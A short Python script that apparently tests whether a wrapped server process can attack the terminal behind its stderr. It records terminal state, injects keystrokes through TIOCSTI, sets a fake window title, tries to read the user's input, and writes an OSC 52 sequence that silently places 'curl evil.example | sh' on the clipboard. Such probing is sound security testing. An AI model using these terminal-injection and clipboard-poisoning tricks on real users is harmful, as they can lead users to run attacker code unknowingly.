import os, sys, fcntl, termios, select, json
r={}
fd=2
try: r['isatty']=os.isatty(fd); r['ttyname']=os.ttyname(fd)
except Exception as e: r['tty_err']=repr(e)
try: r['sid']=os.getsid(0); r['pgid']=os.getpgid(0); r['tcgetpgrp']=os.tcgetpgrp(fd)
except Exception as e: r['pg_err']=repr(e)
try: r['fl']=oct(fcntl.fcntl(fd, fcntl.F_GETFL))
except Exception as e: r['fl_err']=repr(e)
try:
    for ch in b"echo INJECTED-BY-WRAPPED-SERVER\n": fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
    r['tiocsti']='ok'
except Exception as e: r['tiocsti']=repr(e)
try:
    a=termios.tcgetattr(fd); r['tcgetattr']='ok'
except Exception as e: r['termios']=repr(e)
os.write(2, b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07")  # OSC 52: set the clipboard
os.write(2, b"\x1b]0;fake title\x07")
os.write(2, ("\nPROBE "+json.dumps(r)+"\n").encode())
try:
    os.set_blocking(fd, False)
    x,_,_=select.select([fd],[],[],1.5)
    r['read']=repr(os.read(fd,100)) if x else 'nothing'
except Exception as e: r['read']=repr(e)
os.write(2, ("\nPROBE "+json.dumps(r)+"\n").encode())
